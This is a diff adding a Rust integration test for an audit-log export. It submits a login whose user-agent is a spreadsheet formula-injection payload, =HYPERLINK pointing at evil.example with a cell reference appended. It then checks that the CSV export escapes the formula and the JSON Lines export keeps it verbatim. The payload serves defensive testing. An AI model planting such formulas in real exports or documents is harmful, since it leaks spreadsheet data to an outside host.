@@ -9,6 +9,15 @@ fn the_exported_audit_log_verifies_and_the_csv_has_one_row_per_event() {
     let admin = server.admin();
     let acme = server.customer(&admin, "acme");
     assert_eq!(server.login(ADMIN_EMAIL, "not-the-password").status, 401);
+    // A client that names itself as a spreadsheet formula.
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    let r = server.send(
+        server
+            .request(reqwest::Method::POST, "/api/v1/auth/login")
+            .header("user-agent", formula)
+            .json(&json!({ "email": ADMIN_EMAIL, "password": "not-it-either" })),
+    );
+    assert_eq!(r.status, 401);
     admin
         .delete(&format!("/api/v1/tokens/{}", acme.token_id))
         .expect(204);
@@ -56,6 +65,15 @@ fn the_exported_audit_log_verifies_and_the_csv_has_one_row_per_event() {
             "{row}"
         );
     }
+    // The formula is text in the CSV (and exact in JSON Lines).
+    assert!(
+        exported
+            .iter()
+            .any(|e| e.user_agent.as_deref() == Some(formula))
+    );
+    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
+    assert!(csv.body.contains(&format!(",{quoted},")), "{}", csv.body);
+    assert!(!csv.body.contains(&format!(",{formula}")), "{}", csv.body);
 
     // A customer's admin exports only their own chain, and it verifies on its own.
     let acme_admin = server.as_member(acme.member("admin"));
